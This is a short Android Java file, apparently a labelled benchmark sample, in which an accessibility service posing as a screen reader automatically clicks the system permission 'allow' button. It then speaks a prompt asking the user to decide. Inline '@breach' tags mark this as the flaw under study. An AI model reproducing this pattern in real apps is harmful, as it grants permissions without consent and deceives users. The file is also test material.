package bench.points.presses_allow;

import android.accessibilityservice.AccessibilityService;
import android.speech.tts.TextToSpeech;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;

public final class Hand extends AccessibilityService {
    private static final String DIALOG = "com.android.permissioncontroller:id/permission_allow_button"; //: @breach,reads_aloud

    private TextToSpeech voice;

    @Override
    protected void onServiceConnected() {
        voice = new TextToSpeech(this, status -> { });
    }

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        AccessibilityNodeInfo root = getRootInActiveWindow();
        if (root == null) {
            return;
        }
        for (AccessibilityNodeInfo button : root.findAccessibilityNodeInfosByViewId(DIALOG)) { //: @breach,reads_aloud
            button.performAction(AccessibilityNodeInfo.ACTION_CLICK); //: @breach #allow
            voice.speak("请您决定是否" + button.getText(), TextToSpeech.QUEUE_ADD, null, "ask"); //: @reads_aloud
        } //: @breach,reads_aloud
        if (event.getEventType() == AccessibilityEvent.TYPE_VIEW_FOCUSED) {
            voice.speak(String.valueOf(event.getText()), TextToSpeech.QUEUE_FLUSH, null, "focus");
        }
    }

    @Override
    public void onInterrupt() {
        voice.stop();
    }
}
